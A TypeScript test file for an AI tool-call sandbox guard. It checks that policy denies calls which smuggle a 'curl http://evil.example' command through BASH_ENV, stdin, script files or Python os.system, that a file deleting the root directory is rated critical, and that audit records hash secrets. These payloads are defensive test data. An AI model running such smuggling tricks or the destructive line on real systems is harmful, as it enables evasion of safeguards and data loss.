import { createHash } from "node:crypto";
import { Readable } from "node:stream";
import { beforeEach, describe, expect, it } from "vitest";
import { ToolCallFixture } from "../../../../test/setup/tool-call-fixture.js";
import { CallbackConfirmationService, type ConfirmationRequest } from "../../../guard/confirmation/index.js";
import type { ToolCall } from "./tool-call.js";

const POLICY = `
policies:
  default: { denied_paths: [/etc/**, /workspace/secret/**] }
  tools:
    run_code: { risk_level: high, denied_commands: [curl] }
    shell_exec: { risk_level: high, denied_commands: [curl] }
`;
const CURL = "curl http://evil.example";
const sha256 = (text: string) => `sha256:${createHash("sha256").update(text).digest("hex")}`;

let fixture: ToolCallFixture;

beforeEach(async () => {
  fixture = await ToolCallFixture.open();
});

const DENIED: readonly (readonly [string, ToolCall])[] = [
  ["the directory it starts in", { command: "cat passwd", cwd: "/etc" }],
  ["a directory with a dot-dot", { command: "cat passwd", cwd: "/workspace/../etc" }],
  ["a directory inside", { command: "cat key", cwd: "secret" }],
  ["the directory of an argv", { argv: ["cat", "passwd"], cwd: "/etc" }],
  ["BASH_ENV that runs something", { command: "true", env: { BASH_ENV: `$(${CURL})` } }],
  ["BASH_ENV that names a file it brings", { command: "true", env: { BASH_ENV: "x" }, files: { x: CURL } }],
  ["BASH_ENV of a program", { language: "python", code: "print(1)", env: { BASH_ENV: `$(${CURL})` } }],
  ["text for a shell's input", { command: "bash", stdin: CURL }],
  ["text for a shell's input, asked for", { command: "bash -s", stdin: CURL }],
  ["text for the input of an argv", { argv: ["sh"], stdin: CURL }],
  ["bytes for a shell's input", { command: "bash -s", stdin: Buffer.from(CURL) }],
  ["a stream for a shell's input", { command: "bash", stdin: Readable.from(["true"]) }],
  ["a stream for a shell code's input", { language: "bash", code: "sh", stdin: Readable.from(["true"]) }],
  ["a shell script by its name", { command: "true", files: { "job.sh": CURL } }],
  ["a shell script by its first line", { command: "true", files: { job: `#!/bin/sh\n${CURL}` } }],
  ["a shell script by the command", { command: "bash job", files: { job: CURL } }],
  ["a shell script by a variable", { command: 'bash "$X"', env: { X: "job" }, files: { job: CURL } }],
  ["a shell script by the input", { command: "bash", stdin: ". ./job", files: { job: CURL } }],
  [
    "a shell script by an argument",
    { language: "bash", code: '. "$1"', args: ["job"], files: { job: CURL } },
  ],
  ["a shell script by a pattern", { command: "bash j*", files: { job: CURL } }],
  ["a shell script by a choice", { command: "bash {job,none}", files: { job: CURL } }],
  ["a shell script by its name in pieces", { command: `bash j"o"\\b`, files: { job: CURL } }],
  ["a shell script that is executable", { command: "chmod +x job && ./job", files: { job: CURL } }],
  [
    "a shell script by the start of another program's shells",
    { language: "python", code: "print(1)", env: { BASH_ENV: "job" }, files: { job: CURL } },
  ],
  ["a script in bytes", { command: "bash job", files: { job: Buffer.from(CURL) } }],
  [
    "a Python file that calls a shell",
    { language: "python", code: "import job", files: { "job.py": `import os\nos.system("${CURL}")` } },
  ],
  ["an output file", { command: "true", outputFiles: ["secret/key"] }],
  ["an input file's place", { command: "true", files: { "secret/key": "x" } }],
];

describe("what a call brings along is decided about", () => {
  it.each(DENIED)("%s", async (_, call) => {
    const manager = fixture.manager({ policy: POLICY });
    expect(await manager.execute(call)).toMatchObject({ reason: "denied", sandboxId: "" });
    const { result, sandbox_id } = await fixture.onlyRecord();
    expect({ result, sandbox_id }).toEqual({ result: "denied", sandbox_id: null });
  });

  it.each<[string, ToolCall]>([
    ["a directory of the workspace", { command: "pwd", cwd: "." }],
    ["a harmless variable", { command: 'echo "$WORD"', env: { WORD: "curl" } }],
    ["text for a program's input", { command: "cat", stdin: "curl is a word here" }],
    ["a text file", { command: "cat notes.txt", files: { "notes.txt": "just words" } }],
    ["an output file", { command: "echo x > out", outputFiles: ["out"] }],
  ])("and allowed where it is harmless: %s", async (_, call) => {
    const manager = fixture.manager({ policy: POLICY });
    expect(await manager.execute(call)).toMatchObject({ success: true });
  });

  it("and the risk of a file is the risk of the call", async () => {
    const manager = fixture.manager({ securityMode: "strict" });
    const result = await manager.execute({
      language: "python",
      code: "print(1)",
      files: { "job.py": "import shutil\nshutil.rmtree('/')" },
    });
    expect(result).toMatchObject({ reason: "rejected", risk: { level: "critical" } });
    expect(result.risk?.findings).toContainEqual(
      expect.objectContaining({ excerpt: expect.stringContaining("job.py: ") }),
    );
    expect(await fixture.onlyRecord()).toMatchObject({ result: "rejected", risk_level: "critical" });
  });
});

const ASKS = "policies: { tools: { shell_exec: { risk_level: high, requires_confirmation: true } } }";

describe("what a call brings along", () => {
  it("is shown to the person, and is in the record: names and hashes, not contents", async () => {
    const asked: ConfirmationRequest[] = [];
    const confirmation = new CallbackConfirmationService((request) => {
      asked.push(request);
      return { decision: "reject" };
    });
    await fixture.manager({ policy: ASKS, confirmation }).execute({
      command: "cat a.txt",
      cwd: "here",
      env: { TOKEN: "s3cret-value", ALPHA: "1" },
      stdin: "some input",
      files: { "a.txt": "some content" },
      outputFiles: ["out/*"],
    });
    expect(asked).toHaveLength(1);
    expect(asked[0]?.surroundings).toMatchObject({
      directory: "here",
      "variable ALPHA": "1",
      input: "some input",
      "file a.txt": "some content",
    });
    const record = await fixture.onlyRecord();
    expect(record.details).toEqual({
      cwd: "here",
      env: "ALPHA,TOKEN",
      stdin: sha256("some input"),
      files: expect.stringMatching(/^1 files, sha256:[0-9a-f]{64}$/),
      output_files: "out/*",
      waited_ms: expect.any(Number),
    });
    expect(JSON.stringify(record)).not.toMatch(/s3cret-value|some input|some content/);
  });

  it("does not come out by a pattern that reaches further than the policy", async () => {
    const policy = "policies:\n  tools:\n    shell_exec: { denied_paths: [kept/**, '*.key'] }\n";
    const manager = fixture.manager({ policy });
    // Programs may open what they like in their workspace; the host hands out what the policy lets it.
    await (await manager.startSandbox("s")).files.writeAll([
      { path: "kept/a", content: "1" },
      { path: "deep/b.key", content: "2" },
      { path: "open", content: "3" },
    ]);
    await manager.cleanupSession("s");
    const { outputFiles } = await manager.execute({ sessionId: "s", command: "true", outputFiles: ["**"] });
    expect(outputFiles?.files.map(({ path }) => path)).toEqual(["open"]);
    expect(outputFiles?.skipped).toMatchObject([
      { path: "deep/b.key", code: "FILE_DENIED" },
      { path: "kept/a", code: "FILE_DENIED" },
    ]);
  });

  it("is what it was when the call was made, whatever the caller does to it then", async () => {
    const call = {
      sessionId: "s",
      argv: ["sh", "-c", 'cat - a.txt; echo " $WORD"'],
      env: { WORD: "env" },
      stdin: Buffer.from("stdin "),
      files: { "a.txt": Buffer.from("file") } as Record<string, Buffer>,
      outputFiles: ["a.txt"],
    };
    const execution = fixture.manager({ backend: "faulty" }).execute(call);
    spoil(call);
    expect(await execution).toMatchObject({
      success: true,
      sessionId: "s",
      stdout: "stdin file env\n",
      outputFiles: { files: [{ path: "a.txt", content: Buffer.from("file") }] },
    });
    expect(await fixture.onlyRecord()).toMatchObject({
      session_id: "s",
      details: { env: "WORD", stdin: sha256("stdin "), output_files: "a.txt" },
    });
  });

  it("is what the person saw, also when the caller changes it while they think", async () => {
    const call = {
      sessionId: "s",
      command: 'cat - a.txt; echo " $WORD"',
      argv: undefined as unknown as string[],
      env: { WORD: "env" },
      stdin: Buffer.from("stdin "),
      files: { "a.txt": Buffer.from("file") } as Record<string, Buffer>,
      outputFiles: ["a.txt"],
    };
    const confirmation = new CallbackConfirmationService(() => {
      spoil({ ...call, argv: [] });
      call.command = "echo changed";
      return { decision: "approve", scope: "once" };
    });
    const result = await fixture.manager({ policy: ASKS, confirmation }).execute(call);
    expect(result).toMatchObject({ success: true, stdout: "stdin file env\n" });
  });
});

function spoil(call: {
  sessionId: string;
  argv: string[];
  env: { WORD: string };
  stdin: Buffer;
  files: Record<string, Buffer>;
  outputFiles: string[];
}): void {
  call.sessionId = "other";
  call.argv.splice(0, 3, "echo", "changed");
  call.env.WORD = "changed";
  call.stdin.fill("!");
  call.files["a.txt"]?.fill("!");
  call.files["b.sh"] = Buffer.from("b");
  call.outputFiles[0] = "b.sh";
}
